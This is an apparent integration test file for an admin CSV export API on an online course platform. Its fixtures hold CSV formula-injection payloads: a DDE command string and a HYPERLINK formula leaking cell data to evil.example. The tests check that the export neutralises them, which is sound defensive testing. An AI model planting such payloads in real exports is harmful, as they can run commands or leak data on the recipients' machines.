import { EntityManager } from '@mikro-orm/postgresql';
import { parse } from 'csv-parse/sync';
import type { Response } from 'supertest';
import type TestAgent from 'supertest/lib/agent.js';
import type { User } from '../../src/modules/users/entities/user.entity.js';
import { createUser, signedInAgent } from '../support/accounts.js';
import { createCourse, enroll, type CreatedCourse } from '../support/catalog.js';
import { createMigratedDatabase, dropDatabase } from '../support/test-database.js';
import { createTestApp, type TestApp } from '../support/test-app.js';

type Record = { [header: string]: string };

/** What a spreadsheet would show: the text of every cell, by header. */
function records(response: Response): Record[] {
  return parse(response.text, { bom: true, columns: true }) as Record[];
}

/** Text for a CSV cell: timestamps as ISO 8601 UTC, nothing as an empty cell. */
const cell = (value: unknown): string =>
  value === null || value === undefined ? '' : value instanceof Date ? value.toISOString() : String(value);
const iso = (value: string | null): string => (value === null ? '' : new Date(value).toISOString());
const today = () => new Date().toISOString().slice(0, 10);

describe('CSV exports', () => {
  // Its own database: exports without a filter read whole tables, which other suites write to meanwhile.
  const adminUrl = process.env.ACADEMY_TEST_ADMIN_URL!;
  let databaseUrl: string;
  let testApp: TestApp;
  let admin: TestAgent;
  let learnerAgent: TestAgent;
  let big: CreatedCourse;
  let small: CreatedCourse;
  let ana: User;
  let ben: User;
  let formulas: User[];

  const sql = <T>(query: string, params: unknown[] = []) =>
    testApp.app.get(EntityManager).fork().getConnection().execute<T[]>(query, params);
  const download = (path: string, query: { [name: string]: string | number } = {}) => admin.get(`/api/admin/exports/${path}`).query(query);

  async function complete(user: User, course: CreatedCourse, lessons: number, lastAt: string) {
    for (const [index, lesson] of course.lessons.slice(0, lessons).entries()) {
      await sql(
        `insert into lesson_progress (user_id, lesson_id, course_id, completed_at) values (?, ?, ?, ?::timestamptz - (? * interval '1 hour'))`,
        [user.id, lesson.id, course.course.id, lastAt, lessons - 1 - index],
      );
    }
    await sql(`update enrollments set completed_lessons = ?, last_viewed_at = ? where user_id = ? and course_id = ?`, [
      lessons,
      lastAt,
      user.id,
      course.course.id,
    ]);
  }

  async function quiz(lessonId: number, title: string, passMark: number | null): Promise<number> {
    const [row] = await sql<{ id: number }>(
      `insert into quizzes (lesson_id, title, description, pass_mark, created_at, updated_at) values (?, ?, '', ?, now(), now()) returning id`,
      [lessonId, title, passMark],
    );
    return row.id;
  }

  async function attempt(
    quizId: number,
    user: User,
    number: number,
    status: string,
    submittedAt: string | null,
    score: number | null,
    passed: boolean | null,
    pendingReview = false,
    searchF1s: number[] = [],
  ) {
    const searchGrades = Object.fromEntries(searchF1s.map((f1, index) => [String(index + 1), { f1 }]));
    await sql(
      `insert into quiz_attempts (quiz_id, user_id, attempt_number, status, started_at, submitted_at, score, passed, pending_review, search_grades) values (?, ?, ?, ?, now(), ?, ?, ?, ?, ?)`,
      [quizId, user.id, number, status, submittedAt, score, passed, pendingReview, JSON.stringify(searchGrades)],
    );
  }

  async function practiceLesson(lessonId: number, rubric: { id: string; name: string }[]) {
    await sql(`update lessons set type = 'practice' where id = ?`, [lessonId]);
    await sql(
      `insert into practice_lessons (lesson_id, mode, persona, objective, opening_line, rubric, updated_at) values (?, 'ai', ?, 'Take the brief', 'Hello.', ?, now())`,
      [
        lessonId,
        JSON.stringify({ name: 'Dana Reyes', role: 'Hiring manager', background: '', wants: '', hiddenFacts: [] }),
        JSON.stringify(rubric.map((criterion) => ({ ...criterion, weight: 1, good: 'Good', poor: 'Poor' }))),
      ],
    );
  }

  async function practiceAttempt(
    lessonId: number,
    user: User,
    number: number,
    status: string,
    startedAt: string,
    endedAt: string | null,
    scores: { criterionId: string; score: number }[] | null,
    total: number | null,
    passed: boolean | null,
  ) {
    await sql(
      `insert into practice_attempts (lesson_id, user_id, attempt_number, mode, status, started_at, ended_at, end_reason, scores, total, passed) values (?, ?, ?, 'ai', ?, ?, ?, ?, ?, ?, ?)`,
      [
        lessonId,
        user.id,
        number,
        status,
        startedAt,
        endedAt,
        endedAt === null ? null : 'learner',
        scores === null ? null : JSON.stringify(scores.map((score) => ({ ...score, evidence: '', tip: '' }))),
        total,
        passed,
      ],
    );
  }

  async function payment(
    course: CreatedCourse,
    user: User | null,
    email: string,
    kind: string,
    status: string,
    amount: number,
    currency: string,
    createdAt: string,
  ) {
    await sql(
      `insert into payments (user_id, email, course_id, kind, status, amount, currency, created_at, updated_at) values (?, ?, ?, ?, ?, ?, ?, ?, now())`,
      [user?.id ?? null, email, course.course.id, kind, status, amount, currency, createdAt],
    );
  }

  beforeAll(async () => {
    databaseUrl = await createMigratedDatabase('academy_exports');
    testApp = await createTestApp({ DATABASE_URL: databaseUrl });
    admin = (await signedInAgent(testApp, 'admin')).agent;
    learnerAgent = (await signedInAgent(testApp)).agent;

    big = await createCourse(testApp, { title: 'Sourcing: the Zoë method', modules: 2, lessonsPerModule: 2 });
    small = await createCourse(testApp, { title: '=cmd|" /C calc"!A0', modules: 1, lessonsPerModule: 2 });
    ana = await createUser(testApp, 'jobseeker', { firstName: 'Zoë', lastName: 'Ångström' });
    ben = await createUser(testApp, 'recruitpro', { firstName: 'Ben', lastName: 'Okafor', emailVerified: false });
    formulas = [];
    for (const [firstName, lastName] of [
      ['=HYPERLINK("https://evil.example/?leak="&A1,"Click")', 'Smith'],
      ['+1', '-2'],
      ['@SUM(A1:A9)', 'Jones'],
      ['Tabbed', 'Doe'],
    ]) {
      formulas.push(await createUser(testApp, 'jobseeker', { firstName, lastName }));
    }
    // Sign-up trims names; an import or an older version may not have.
    await sql(`update users set first_name = ? where id = ?`, ['\tTabbed', formulas[3].id]);
    await sql(`update users set created_at = '2026-01-05T10:00:00Z' where id = ?`, [ana.id]);
    await sql(`update users set created_at = '2026-02-10T10:00:00Z', last_active_at = '2026-03-01T08:00:00Z' where id = ?`, [ben.id]);

    for (const user of [ana, ben, formulas[0]]) await enroll(testApp, user, big.course);
    for (const user of [ana, ...formulas]) await enroll(testApp, user, small.course);
    await sql(`update enrollments set enrolled_at = '2026-01-10T09:00:00Z' where user_id = ?`, [ana.id]);
    await sql(`update enrollments set enrolled_at = '2026-01-31T23:30:00Z', source = 'grant' where user_id = ?`, [ben.id]);
    await sql(`update enrollments set enrolled_at = '2026-02-01T00:00:00Z' where user_id = ? and course_id = ?`, [
      formulas[0].id,
      big.course.id,
    ]);
    await sql(`update enrollments set status = 'revoked' where user_id = ? and course_id = ?`, [formulas[1].id, small.course.id]);
    await complete(ana, big, 4, '2026-01-20T12:00:00Z');
    await complete(ben, big, 1, '2026-02-02T12:00:00Z');
    await complete(ana, small, 2, '2026-01-25T12:00:00Z');

    const final = await quiz(big.lessons[3].id, 'Final check', 70);
    const intro = await quiz(small.lessons[0].id, 'Warm-up', null);
    await attempt(final, ana, 1, 'submitted', '2026-01-18T10:00:00Z', 50, false);
    // Two boolean search answers, F1 0.727 and 0.5: a sourcing F1 of 61.4 %.
    await attempt(final, ana, 2, 'submitted', '2026-01-19T10:00:00Z', 90, true, false, [0.727, 0.5]);
    await attempt(final, ben, 1, 'submitted', '2026-02-03T10:00:00Z', 40, null, true);
    await attempt(final, formulas[0], 1, 'expired', '2026-02-04T10:00:00Z', 10, false);
    await attempt(final, formulas[1], 1, 'in_progress', null, null, null);
    await attempt(intro, ana, 1, 'submitted', '2026-01-12T10:00:00Z', 100, null);

    await practiceLesson(big.lessons[2].id, [
      { id: 'rapport', name: 'Builds rapport' },
      { id: 'facts', name: '=Uncovers the facts' },
    ]);
    await practiceLesson(small.lessons[1].id, [{ id: 'care', name: 'Delivers news with care' }]);
    // Scores stored out of the rubric's order, and one for a criterion since removed from the rubric.
    await practiceAttempt(
      big.lessons[2].id,
      ana,
      1,
      'graded',
      '2026-01-14T09:00:00Z',
      '2026-01-14T09:20:00Z',
      [
        { criterionId: 'facts', score: 2 },
        { criterionId: 'rapport', score: 4 },
      ],
      75,
      true,
    );
    await practiceAttempt(big.lessons[2].id, ben, 1, 'needs_review', '2026-02-03T09:00:00Z', '2026-02-03T09:30:00Z', null, null, null);
    await practiceAttempt(big.lessons[2].id, ben, 2, 'in_progress', '2026-02-04T09:00:00Z', null, null, null, null);
    await practiceAttempt(
      small.lessons[1].id,
      ana,
      1,
      'graded',
      '2026-01-26T09:00:00Z',
      '2026-01-26T09:10:00Z',
      [
        { criterionId: 'care', score: 1 },
        { criterionId: 'gone', score: 3 },
      ],
      25,
      false,
    );
    await practiceAttempt(small.lessons[1].id, formulas[0], 1, 'grading', '2026-02-05T09:00:00Z', '2026-02-05T09:10:00Z', null, null, null);

    await payment(big, ana, ana.email, 'one_time', 'succeeded', 4900, 'usd', '2026-01-09T08:00:00Z');
    await payment(big, ben, ben.email, 'subscription', 'refunded', 1950, 'eur', '2026-02-01T08:00:00Z');
    await payment(small, null, 'visitor@example.com', 'one_time', 'pending', 5000, 'jpy', '2026-02-15T08:00:00Z');
  });
  afterAll(async () => {
    await testApp?.close();
    if (databaseUrl) await dropDatabase(adminUrl, databaseUrl);
  });

  describe('users.csv', () => {
    it('is every account, oldest first, as the database has it, with download headers and a byte order mark', async () => {
      const response = await download('users.csv').expect(200);
      expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
      expect(response.headers['content-disposition']).toBe(`attachment; filename="users-${today()}.csv"`);
      expect(response.headers['cache-control']).toBe('no-store');
      expect(
        response.text.startsWith(
          '\uFEFFUser ID,First name,Last name,Email,Role,Email verified at,Signed up at,Last active at,Active enrolments\r\n',
        ),
      ).toBe(true);

      const rows = await sql<{ [column: string]: string | number | null }>(
        `select u.*, (select count(*) from enrollments e where e.user_id = u.id and e.status = 'active')::int as active from users u order by u.id`,
      );
      expect(records(response)).toEqual(
        rows.map((row) => ({
          'User ID': cell(row.id),
          'First name': neutralised(cell(row.first_name)),
          'Last name': neutralised(cell(row.last_name)),
          Email: cell(row.email),
          Role: cell(row.role),
          'Email verified at': iso(row.email_verified_at as string | null),
          'Signed up at': iso(row.created_at as string),
          'Last active at': iso(row.last_active_at as string | null),
          'Active enrolments': cell(row.active),
        })),
      );
      const byId = new Map(records(response).map((record) => [Number(record['User ID']), record]));
      expect(byId.get(ben.id)).toMatchObject({
        'First name': 'Ben',
        Role: 'recruitpro',
        'Email verified at': '',
        'Signed up at': '2026-02-10T10:00:00.000Z',
        'Active enrolments': '1',
      });
      expect(byId.get(ana.id)).toMatchObject({ 'First name': 'Zoë', 'Last name': 'Ångström', 'Active enrolments': '2' });
    });

    it('neutralises cells a spreadsheet would run as formulas, and only those', async () => {
      const byId = new Map(records(await download('users.csv').expect(200)).map((record) => [Number(record['User ID']), record]));
      expect(formulas.map((user) => [byId.get(user.id)!['First name'], byId.get(user.id)!['Last name']])).toEqual([
        [`'=HYPERLINK("https://evil.example/?leak="&A1,"Click")`, 'Smith'],
        ["'+1", "'-2"],
        ["'@SUM(A1:A9)", 'Jones'],
        ["'\tTabbed", 'Doe'],
      ]);
    });

    it('keeps the learners of a course, and those who signed up in the range', async () => {
      const ids = async (query: { [name: string]: string | number }) =>
        records(await download('users.csv', query).expect(200)).map((record) => Number(record['User ID']));
      expect(await ids({ courseId: big.course.id })).toEqual([ana.id, ben.id, formulas[0].id]);
      // Revoked enrolments count: they were learners of the course.
      expect(await ids({ courseId: small.course.id })).toEqual([ana.id, ...formulas.map((user) => user.id)]);
      expect(await ids({ from: '2026-01-01', to: '2026-01-31' })).toEqual([ana.id]);
      expect(await ids({ from: '2026-02-10T10:00:00Z', to: '2026-02-10T10:00:00Z' })).toEqual([ben.id]);
      expect(await ids({ courseId: big.course.id, from: '2026-02-01' })).toEqual([ben.id, formulas[0].id]);
    });
  });

  describe('enrolments.csv', () => {
    it('is every enrolment with its progress, as the database has it', async () => {
      const response = await download('enrolments.csv').expect(200);
      expect(response.headers['content-disposition']).toBe(`attachment; filename="enrolments-${today()}.csv"`);
      const enrollments = await sql<{ [column: string]: string | number | null }>(
        `select e.*, u.first_name, u.last_name, u.email, c.title from enrollments e join users u on u.id = e.user_id join courses c on c.id = e.course_id order by e.id`,
      );
      const lessons = await sql<{ course_id: number }>(`select course_id from lessons`);
      const progress = await sql<{ user_id: number; course_id: number; completed_at: string }>(
        `select user_id, course_id, completed_at from lesson_progress`,
      );
      expect(records(response)).toEqual(
        enrollments.map((row) => {
          const total = lessons.filter((lesson) => lesson.course_id === row.course_id).length;
          const done = progress.filter((item) => item.user_id === row.user_id && item.course_id === row.course_id);
          const last = done.map((item) => new Date(item.completed_at).getTime()).sort((a, b) => b - a)[0];
          return {
            'Enrolment ID': cell(row.id),
            'User ID': cell(row.user_id),
            Learner: neutralised(`${row.first_name} ${row.last_name}`.trim()),
            Email: cell(row.email),
            'Course ID': cell(row.course_id),
            Course: neutralised(cell(row.title)),
            'Enrolled at': iso(row.enrolled_at as string),
            Source: cell(row.source),
            Status: cell(row.status),
            'Completed lessons': cell(row.completed_lessons),
            'Total lessons': cell(total),
            'Progress (%)': cell(Math.round(((row.completed_lessons as number) / total) * 100)),
            'Completed at': done.length === total ? new Date(last).toISOString() : '',
            'Last viewed at': iso(row.last_viewed_at as string | null),
          };
        }),
      );
      const anaBig = records(response).find(
        (record) => record['User ID'] === String(ana.id) && record['Course ID'] === String(big.course.id),
      );
      expect(anaBig).toMatchObject({
        Learner: 'Zoë Ångström',
        'Completed lessons': '4',
        'Total lessons': '4',
        'Progress (%)': '100',
        'Completed at': '2026-01-20T12:00:00.000Z',
      });
      const benBig = records(response).find((record) => record['User ID'] === String(ben.id));
      expect(benBig).toMatchObject({
        Source: 'grant',
        Status: 'active',
        'Progress (%)': '25',
        'Completed at': '',
        'Last viewed at': '2026-02-02T12:00:00.000Z',
      });
      expect(records(response).find((record) => record['User ID'] === String(formulas[1].id))).toMatchObject({
        Status: 'revoked',
        Course: `'=cmd|" /C calc"!A0`,
        Learner: "'+1 -2",
      });
    });

    it('keeps one course and the enrolments of the range: a date alone is its whole day (UTC)', async () => {
      const pairs = async (query: { [name: string]: string | number }) =>
        records(await download('enrolments.csv', query).expect(200)).map((record) => [
          Number(record['User ID']),
          Number(record['Course ID']),
        ]);
      expect(await pairs({ courseId: big.course.id })).toEqual([ana, ben, formulas[0]].map((user) => [user.id, big.course.id]));
      expect(await pairs({ courseId: big.course.id, to: '2026-01-31' })).toEqual([ana, ben].map((user) => [user.id, big.course.id]));
      expect(await pairs({ courseId: big.course.id, from: '2026-02-01', to: '2026-02-01' })).toEqual([[formulas[0].id, big.course.id]]);
      expect(await pairs({ from: '2026-01-31T23:30:00Z', to: '2026-02-01T00:00:00Z' })).toEqual(
        [ben, formulas[0]].map((user) => [user.id, big.course.id]),
      );
      expect(await pairs({ from: '2027-01-01' })).toEqual([]);
    });

    it('is the header alone when nothing matches', async () => {
      const response = await download('enrolments.csv', { from: '2030-01-01' }).expect(200);
      expect(response.text).toBe(
        '\uFEFFEnrolment ID,User ID,Learner,Email,Course ID,Course,Enrolled at,Source,Status,Completed lessons,Total lessons,Progress (%),Completed at,Last viewed at\r\n',
      );
    });
  });

  describe('quiz-results.csv', () => {
    it('is every finished attempt, as the database has it, graded or pending review', async () => {
      const response = await download('quiz-results.csv').expect(200);
      const attempts = await sql<{ [column: string]: string | number | boolean | null }>(
        `select a.*, u.first_name, u.last_name, u.email, l.course_id, l.title as lesson_title, q.title as quiz_title, c.title as course_title
         from quiz_attempts a join users u on u.id = a.user_id join quizzes q on q.id = a.quiz_id join lessons l on l.id = q.lesson_id join courses c on c.id = l.course_id
         where a.submitted_at is not null order by a.id`,
      );
      expect(attempts).toHaveLength(5);
      expect(records(response)).toEqual(
        attempts.map((row) => ({
          'Attempt ID': cell(row.id),
          'User ID': cell(row.user_id),
          Learner: neutralised(`${row.first_name} ${row.last_name}`.trim()),
          Email: cell(row.email),
          'Course ID': cell(row.course_id),
          Course: neutralised(cell(row.course_title)),
          Lesson: cell(row.lesson_title),
          Quiz: cell(row.quiz_title),
          Attempt: cell(row.attempt_number),
          'Submitted at': iso(row.submitted_at as string),
          'Score (%)': cell(row.score),
          'Sourcing F1 (%)': Object.keys(row.search_grades as unknown as object).length === 0 ? '' : expect.any(String),
          Passed: row.passed === null ? '' : row.passed ? 'yes' : 'no',
          Status: row.pending_review ? 'pending' : 'graded',
        })),
      );
      expect(
        records(response).map((record) => [
          record.Quiz,
          record.Attempt,
          record['Score (%)'],
          record['Sourcing F1 (%)'],
          record.Passed,
          record.Status,
        ]),
      ).toEqual([
        ['Final check', '1', '50', '', 'no', 'graded'],
        ['Final check', '2', '90', '61.4', 'yes', 'graded'],
        ['Final check', '1', '40', '', '', 'pending'],
        ['Final check', '1', '10', '', 'no', 'graded'],
        ['Warm-up', '1', '100', '', '', 'graded'],
      ]);
    });

    it('keeps one course and the attempts submitted in the range', async () => {
      const scores = async (query: { [name: string]: string | number }) =>
        records(await download('quiz-results.csv', query).expect(200)).map((record) => record['Score (%)']);
      expect(await scores({ courseId: small.course.id })).toEqual(['100']);
      expect(await scores({ courseId: big.course.id, from: '2026-01-19', to: '2026-02-03' })).toEqual(['90', '40']);
    });
  });

  describe('practice-results.csv', () => {
    it('is every ended practice attempt, as the database has it, with its criteria in one cell', async () => {
      const response = await download('practice-results.csv').expect(200);
      expect(response.headers['content-disposition']).toBe(`attachment; filename="practice-results-${today()}.csv"`);
      expect(
        response.text.startsWith(
          '\uFEFFAttempt ID,User ID,Learner,Email,Course ID,Course,Lesson,Attempt,Mode,Status,Started at,Ended at,Total (%),Passed,Criteria\r\n',
        ),
      ).toBe(true);
      const attempts = await sql<{ [column: string]: string | number | boolean | null }>(
        `select a.*, u.first_name, u.last_name, u.email, l.course_id, l.title as lesson_title, c.title as course_title
         from practice_attempts a join users u on u.id = a.user_id join lessons l on l.id = a.lesson_id join courses c on c.id = l.course_id
         where a.ended_at is not null order by a.id`,
      );
      expect(attempts).toHaveLength(4);
      expect(
        records(response).map((record) => ({
          ...record,
          Status: undefined,
          'Total (%)': undefined,
          Passed: undefined,
          Criteria: undefined,
        })),
      ).toEqual(
        attempts.map((row) => ({
          'Attempt ID': cell(row.id),
          'User ID': cell(row.user_id),
          Learner: neutralised(`${row.first_name} ${row.last_name}`.trim()),
          Email: cell(row.email),
          'Course ID': cell(row.course_id),
          Course: neutralised(cell(row.course_title)),
          Lesson: cell(row.lesson_title),
          Attempt: cell(row.attempt_number),
          Mode: cell(row.mode),
          Status: undefined,
          'Started at': iso(row.started_at as string),
          'Ended at': iso(row.ended_at as string),
          'Total (%)': undefined,
          Passed: undefined,
          Criteria: undefined,
        })),
      );
      expect(
        records(response).map((record) => [record['User ID'], record.Status, record['Total (%)'], record.Passed, record.Criteria]),
      ).toEqual([
        [String(ana.id), 'graded', '75', 'yes', 'Builds rapport 4/4; =Uncovers the facts 2/4'],
        [String(ben.id), 'needs review', '', '', ''],
        [String(ana.id), 'graded', '25', 'no', 'Delivers news with care 1/4; gone 3/4'],
        [String(formulas[0].id), 'grading', '', '', ''],
      ]);
    });

    it('keeps one course and the attempts ended in the range', async () => {
      const totals = async (query: { [name: string]: string | number }) =>
        records(await download('practice-results.csv', query).expect(200)).map((record) => [record.Attempt, record['Total (%)']]);
      expect(await totals({ courseId: small.course.id })).toEqual([
        ['1', '25'],
        ['1', ''],
      ]);
      expect(await totals({ courseId: big.course.id, from: '2026-01-15', to: '2026-02-03' })).toEqual([['1', '']]);
      expect(await totals({ from: '2026-01-14T09:20:00Z', to: '2026-01-14T09:20:00Z' })).toEqual([['1', '75']]);
    });
  });

  describe('payments.csv', () => {
    it('is every payment, as the database has it, with the amount in cents and as the currency writes it', async () => {
      const response = await download('payments.csv').expect(200);
      const payments = await sql<{ [column: string]: string | number | null }>(
        `select p.*, u.first_name, u.last_name, c.title from payments p join courses c on c.id = p.course_id left join users u on u.id = p.user_id order by p.id`,
      );
      expect(
        records(response).map((record) => [
          record['Payment ID'],
          record['User ID'],
          record.Email,
          record['Course ID'],
          record['Created at'],
          record.Status,
        ]),
      ).toEqual(
        payments.map((row) => [
          cell(row.id),
          cell(row.user_id),
          cell(row.email),
          cell(row.course_id),
          iso(row.created_at as string),
          cell(row.status),
        ]),
      );
      expect(
        records(response).map((record) => [
          record.Learner,
          record['Amount (cents)'],
          record.Amount,
          record.Currency,
          record.Kind,
          record.Refunded,
        ]),
      ).toEqual([
        ['Zoë Ångström', '4900', '49.00', 'USD', 'one-time', 'no'],
        ['Ben Okafor', '1950', '19.50', 'EUR', 'subscription', 'yes'],
        ['', '5000', '5000', 'JPY', 'one-time', 'no'],
      ]);
    });

    it('keeps one course and the payments created in the range', async () => {
      const emails = async (query: { [name: string]: string | number }) =>
        records(await download('payments.csv', query).expect(200)).map((record) => record.Email);
      expect(await emails({ courseId: small.course.id })).toEqual(['visitor@example.com']);
      expect(await emails({ from: '2026-01-10' })).toEqual([ben.email, 'visitor@example.com']);
      expect(await emails({ courseId: big.course.id, to: '2026-01-31' })).toEqual([ana.email]);
    });
  });

  describe('refusals', () => {
    const PATHS = ['users.csv', 'enrolments.csv', 'quiz-results.csv', 'practice-results.csv', 'payments.csv'];

    it('refuses dates that are not ISO 8601, from after to, and a course id that is not a whole number (400)', async () => {
      for (const path of PATHS) {
        expect((await download(path, { from: 'yesterday' }).expect(400)).body.message).toEqual([
          'from must be a date like 2026-01-31 or a date and time like 2026-01-31T09:00:00Z',
        ]);
        expect((await download(path, { to: '2026-02-30' }).expect(400)).body.message).toEqual([
          'to must be a date like 2026-01-31 or a date and time like 2026-01-31T09:00:00Z',
        ]);
        expect((await download(path, { from: '2026-02-01', to: '2026-01-31' }).expect(400)).body.message).toEqual([
          'from must be on or before to',
        ]);
        expect((await download(path, { from: '2026-01-31T10:00:00Z', to: '2026-01-31T09:59:59Z' }).expect(400)).body.message).toEqual([
          'from must be on or before to',
        ]);
        for (const courseId of ['abc', '1.5', '-3', '']) {
          expect((await download(path, { courseId }).expect(400)).body).toMatchObject({
            code: 'VALIDATION_FAILED',
            message: ['courseId must be a whole number'],
          });
        }
        expect((await admin.get(`/api/admin/exports/${path}?courseId=1&courseId=2`).expect(400)).body.message).toEqual([
          'courseId must be a whole number',
        ]);
        expect((await download(path, { unknown: 'x' }).expect(400)).body.code).toBe('VALIDATION_FAILED');
      }
    });

    it('answers 404 for a course that does not exist', async () => {
      for (const path of PATHS) {
        for (const courseId of [999_999, 0, 2_147_483_648]) {
          expect((await download(path, { courseId }).expect(404)).body).toMatchObject({
            code: 'COURSE_NOT_FOUND',
            message: 'Course not found',
          });
        }
      }
    });

    it('is for admins only: 403 for learners, 401 for visitors', async () => {
      for (const path of PATHS) {
        await learnerAgent.get(`/api/admin/exports/${path}`).expect(403);
        await testApp.http().get(`/api/admin/exports/${path}`).expect(401);
      }
    });
  });

  it('runs the same number of SQL statements whatever the number of rows', async () => {
    const course = await createCourse(testApp, { modules: 1, lessonsPerModule: 3 });
    const first = await createUser(testApp);
    await enroll(testApp, first, course.course);
    const counts = async () => {
      const result: number[] = [];
      for (const path of ['users.csv', 'enrolments.csv', 'quiz-results.csv', 'practice-results.csv', 'payments.csv']) {
        result.push((await testApp.countQueries(() => download(path, { courseId: course.course.id }).expect(200))).count);
      }
      return result;
    };
    await practiceLesson(course.lessons[0].id, [{ id: 'rapport', name: 'Builds rapport' }]);
    const before = await counts();
    for (let index = 0; index < 20; index++) {
      const learner = await createUser(testApp);
      await enroll(testApp, learner, course.course);
      await practiceAttempt(
        course.lessons[0].id,
        learner,
        1,
        'graded',
        '2026-03-01T00:00:00Z',
        '2026-03-01T00:10:00Z',
        [{ criterionId: 'rapport', score: 3 }],
        75,
        true,
      );
      await payment(course, learner, learner.email, 'one_time', 'succeeded', 900, 'usd', '2026-03-01T00:00:00Z');
    }
    const after = await counts();
    expect(after).toEqual(before);
    // The session's user, the course, the export's one query (read through a cursor).
    for (const count of after) expect(count).toBeLessThanOrEqual(3);
  });
});

/** What the export writes for text a spreadsheet would run as a formula. */
function neutralised(text: string): string {
  return /^[=+\-@\t\r]/.test(text) ? `'${text}` : text;
}
